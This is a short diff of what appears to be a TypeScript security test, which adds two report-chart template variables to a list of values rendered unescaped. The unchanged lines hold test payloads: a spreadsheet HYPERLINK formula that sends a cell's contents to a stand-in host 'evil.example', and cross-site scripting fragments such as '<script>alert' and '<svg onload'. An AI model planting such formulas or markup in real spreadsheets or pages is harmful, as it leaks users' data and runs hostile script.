@@ -22,7 +22,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 /** What must never reach a page as markup: the start of each injected element. */
 const forbidden = ['<script>alert', '<img src=x', '<svg onload', '</textarea><script'];
 /** Template values written unescaped (`<%~ … %>`) on purpose; see the test that reads the templates. */
-const rawAllowed = new Set(['it.body', 'it.timeline', 'it.durations', /* src/audit/statechart.ts */ 'it.svg', /* src/http/charts/coverage.ts */ 'it.chart', /* src/http/charts/fund.ts, waiting-times.ts (issue 13) */ 'it.fundChart', 'it.waitingChart', /* src/http/charts/implementation.ts (issue 11) */ 'im.fundsChart', 'im.timeline']);
+const rawAllowed = new Set(['it.body', 'it.timeline', 'it.durations', /* src/audit/statechart.ts */ 'it.svg', /* src/http/charts/coverage.ts */ 'it.chart', /* src/http/charts/fund.ts, waiting-times.ts (issue 13) */ 'it.fundChart', 'it.waitingChart', /* src/http/charts/implementation.ts (issue 11) */ 'im.fundsChart', 'im.timeline', /* src/http/report-view.ts (issue 13) */ 'it.view.fundsChart', 'it.view.funnelChart']);
 
 let t: TestApp;
 let returned: number;
